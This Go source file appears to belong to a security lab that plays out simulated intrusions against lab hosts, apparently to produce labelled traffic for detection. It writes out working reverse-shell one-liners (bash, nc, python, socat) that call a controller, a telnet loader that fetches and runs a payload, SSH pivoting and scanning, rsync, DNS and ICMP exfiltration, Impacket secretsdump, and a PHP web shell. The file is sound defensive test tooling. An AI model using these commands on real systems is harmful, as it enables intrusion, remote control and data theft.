package lab

import (
	"context"
	"fmt"
	"time"

	"firetower/internal/attack"
)

// otherInfiltrations: shells that call back, stolen passwords, tunnels, worms.
func otherInfiltrations() []Scenario {
	row := func(name string, limit time.Duration, play func(context.Context, *Run, *Host, *Host) error, also ...attack.Class) Scenario {
		return Scenario{Name: name, Class: attack.Infiltration, Also: also, Limit: limit, Play: func(ctx context.Context, r *Run) error {
			return intrude(ctx, r, play)
		}}
	}
	shell := func(name string, limit time.Duration, line string, typed string) Scenario {
		return row(name, limit, func(ctx context.Context, r *Run, in, boss *Host) error {
			return shellBack(ctx, r, in, boss, line, typed)
		}, attack.Bot)
	}
	const some = 90 * time.Second
	const short = "sleep 2; echo id; sleep 2; echo uname -a; sleep 3; echo ls -la /; sleep 4; echo cat /etc/passwd; sleep 3; echo ps aux; sleep 4; echo ls -la /usr/bin; sleep 3; echo exit"
	const idle = "sleep 3; echo id; sleep 2; echo pwd; sleep 170; echo ls -la /etc; sleep 3; echo cat /etc/passwd; sleep 2; echo exit"
	return []Scenario{
		shell("shell-bash", some, "bash -c 'bash -i >& /dev/tcp/C2/PORT 0>&1'", short),
		shell("shell-nc", some, "nc.traditional -e /bin/sh C2 PORT", short),
		shell("shell-fifo", some, "rm -f f; mkfifo f; cat f | sh -i 2>&1 | nc C2 PORT > f", short),
		shell("shell-python", some, "/usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"C2\",PORT));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'", short),
		shell("shell-socat", some, "socat EXEC:'bash -li',pty,stderr,setsid,sigint,sane TCP:C2:PORT", short),
		shell("shell-idle", 240*time.Second, "bash -c 'bash -i >& /dev/tcp/C2/PORT 0>&1'", idle),
		row("loader", some, wormLoader, attack.Bot),
		row("stolen-ssh", some, stolenSSH),
		row("socks-ssh", some, socksSSH),
		row("tunnel-socket", some, tunnelled, attack.Bot),
		row("ftp-web-shell", some, ftpShell, attack.WebAttack),
		row("rsync-out", some, rsyncOut),
		row("dns-out", some, func(ctx context.Context, r *Run, in, _ *Host) error {
			r.against(r.DNS)
			r.actor(ctx, in, "beacon -url dns:%s -every 150ms -jitter 0.4 -for 30s -task 0.9", r.pick("t.files-sync.example", "x.cdn-metrics.example"))
			return nil
		}, attack.Bot),
		row("icmp-out", some, func(ctx context.Context, r *Run, in, boss *Host) error {
			r.play(ctx, in, "for i in $(seq 300); do ping -c 1 -W 1 -s 1200 -p $(head -c 8 /dev/urandom | od -An -tx1 | tr -d ' ') %s; done", boss.Addr)
			return nil
		}, attack.Bot),
		row("smb-impacket", some, func(ctx context.Context, r *Run, in, _ *Host) error {
			h, err := r.service(ctx, "smb")
			if err != nil {
				return err
			}
			r.against(h)
			u := Users[r.IntN(len(Users))]
			for _, t := range []string{"smbclient.py -inputfile /dev/null", "wmiexec.py", "atexec.py", "psexec.py", "secretsdump.py"} {
				r.play(ctx, in, "timeout 10 /usr/bin/python3 /usr/share/doc/python3-impacket/examples/%s '%s:%s@%s' </dev/null", t, u.Name, u.Password, h.Addr)
				pause(ctx, r.seconds(1, 3))
			}
			return nil
		}),
	}
}

// intrude makes the intruder's machine outside and chooses the one inside.
func intrude(ctx context.Context, r *Run, play func(context.Context, *Run, *Host, *Host) error) error {
	boss, err := r.host(ctx, "controller", false)
	if err != nil {
		return err
	}
	if err := boss.ServeSite(ctx, r.Rand, 0); err != nil {
		return err
	}
	in := r.People[r.IntN(len(r.People))]
	r.Truth.Attackers = append(r.Truth.Attackers, in.Addr)
	r.against(boss)
	return play(ctx, r, in, boss)
}

// shellBack is a shell that a machine inside opens to its intruder, who types.
func shellBack(ctx context.Context, r *Run, in, boss *Host, line, typed string) error {
	port := r.pick("4444", "443", "9001", "1234", "53")
	done := make(chan struct{})
	go func() { defer close(done); boss.Shell(ctx, "(%s) | nc -l -p %s", typed, port) }()
	pause(ctx, 500*time.Millisecond)
	r.play(ctx, in, "%s", replace(line, "C2", boss.Addr.String(), "PORT", port))
	<-done
	return nil
}

// wormLoader: somebody logs in to a device over Telnet and has it load a program,
// which then calls its controller.
func wormLoader(ctx context.Context, r *Run, _, boss *Host) error {
	device, err := r.service(ctx, "telnet")
	if err != nil {
		return err
	}
	r.Truth.Attackers = append(r.Truth.Attackers[:0], boss.Addr)
	r.Truth.Victims = nil
	r.against(device)
	if err := boss.Serve("socat", "-u", "TCP-LISTEN:48101,fork,reuseaddr", "OPEN:/dev/null"); err != nil {
		return err
	}
	u := Users[r.IntN(len(Users))]
	r.play(ctx, boss, "(sleep 1; echo %s; sleep 1; echo '%s'; sleep 1; echo 'enable; system; shell; sh'; sleep 1; echo 'cat /proc/mounts; /bin/busybox ECCHI'; sleep 1; "+
		"echo 'cd /tmp; wget http://%s/files/update.exe -O dvrHelper; chmod 777 dvrHelper; echo loaded'; sleep 4; echo exit; sleep 1) | telnet %s", u.Name, u.Password, boss.Addr, device.Addr)
	r.play(ctx, device, "for i in 1 2 3 4 5 6; do printf '\\000\\000\\000\\001'; sleep 5; done | nc -w 2 %s 48101", boss.Addr)
	return nil
}

// stolenSSH comes in from outside with a password, looks around from there, and
// takes what it finds.
func stolenSSH(ctx context.Context, r *Run, _, boss *Host) error {
	u := Users[r.IntN(len(Users))]
	r.Truth.Attackers = append(r.Truth.Attackers[:0], boss.Addr, r.Files.Addr)
	r.Truth.Victims = nil
	r.against(r.Files)
	login := fmt.Sprintf("sshpass -p '%s' ssh %s %s@%s", u.Password, sshOptions, u.Name, r.Files.Addr)
	r.play(ctx, boss, "%s 'id; w; uname -a; cat /etc/passwd; ls -la /home'", login)
	pause(ctx, r.seconds(2, 5))
	r.play(ctx, boss, "%s 'for a in %s; do for p in 22 80 443 445 3306 3389; do (timeout 1 bash -c \"echo > /dev/tcp/$a/$p\") 2>/dev/null && echo $a $p; done; done'", login, r.neighbours())
	pause(ctx, r.seconds(2, 5))
	r.play(ctx, boss, "%s 'head -c 9M /dev/urandom > secret.tgz'; sshpass -p '%s' scp %s %s@%s:secret.tgz .", login, u.Password, sshOptions, u.Name, r.Files.Addr)
	return nil
}

// socksSSH goes on into the network through a machine that lets it forward.
func socksSSH(ctx context.Context, r *Run, _, boss *Host) error {
	u := Users[r.IntN(len(Users))]
	r.Truth.Attackers = append(r.Truth.Attackers[:0], boss.Addr, r.Files.Addr)
	r.Truth.Victims = nil
	r.against(r.Files)
	go boss.Shell(ctx, "sshpass -p '%s' timeout 70 ssh -N -D 1080 %s %s@%s", u.Password, sshOptions, u.Name, r.Files.Addr)
	pause(ctx, 2*time.Second)
	r.play(ctx, boss, "for a in %s; do for p in 22 80 445 3306 8080; do curl -s -m 2 -o /dev/null -x socks5://127.0.0.1:1080 http://$a:$p/; done; done", r.neighbours())
	for range 5 {
		r.play(ctx, boss, "curl -s -m 5 -o /dev/null -x socks5://127.0.0.1:1080 http://%s/item?id=%d", r.Shop.Addr, r.IntN(100))
		pause(ctx, r.seconds(1, 3))
	}
	return nil
}

func tunnelled(ctx context.Context, r *Run, in, boss *Host) error {
	far, err := boss.script(scripts["TUNNEL"])
	if err != nil {
		return err
	}
	var targets string
	for _, h := range []*Host{r.Shop, r.Mail, r.Files} {
		for _, p := range []int{22, 25, 80, 445} {
			targets += fmt.Sprintf(" %s:%d", h.Addr, p)
		}
	}
	go boss.Shell(ctx, "%s home 8080 %s", far, targets)
	pause(ctx, time.Second)
	r.play(ctx, in, "TUNNEL agent %s 8080 60", boss.Addr)
	return nil
}

// ftpShell puts a program where the web server finds it and uses it.
func ftpShell(ctx context.Context, r *Run, _, boss *Host) error {
	f, err := r.service(ctx, "ftp")
	if err != nil {
		return err
	}
	if _, err := f.script("servers/portal.py"); err != nil {
		return err
	}
	if err := f.Serve("/usr/bin/python3", f.Dir+"/portal.py", "80", "admin", "portal-secret"); err != nil {
		return err
	}
	r.Truth.Attackers = append(r.Truth.Attackers[:0], boss.Addr)
	r.Truth.Victims = nil
	r.against(f)
	u := Users[r.IntN(len(Users))]
	r.play(ctx, boss, "echo '<?php system($_GET[\"cmd\"]); ?>' > img.php; curl -s -T img.php -u '%s:%s' ftp://%s/", u.Name, u.Password, f.Addr)
	pause(ctx, r.seconds(2, 4))
	r.play(ctx, boss, "BYHAND shell http://%s 10 2", f.Addr)
	return nil
}

// rsyncOut takes a machine's files to a store outside that nobody used before.
func rsyncOut(ctx context.Context, r *Run, in, boss *Host) error {
	if err := boss.ServeSSH(ctx, 22); err != nil {
		return err
	}
	key, err := r.Key(ctx)
	if err != nil {
		return err
	}
	r.play(ctx, in, "curl -s -o got http://%s/files/update.exe", boss.Addr)
	if err := r.look(ctx, in); err != nil {
		return err
	}
	r.play(ctx, in, "mkdir -p loot; for i in $(seq 30); do head -c 400K /dev/urandom > loot/$i; done; rsync -a -e 'ssh %s' loot/ alice@%s:loot/", key, boss.Addr)
	return nil
}
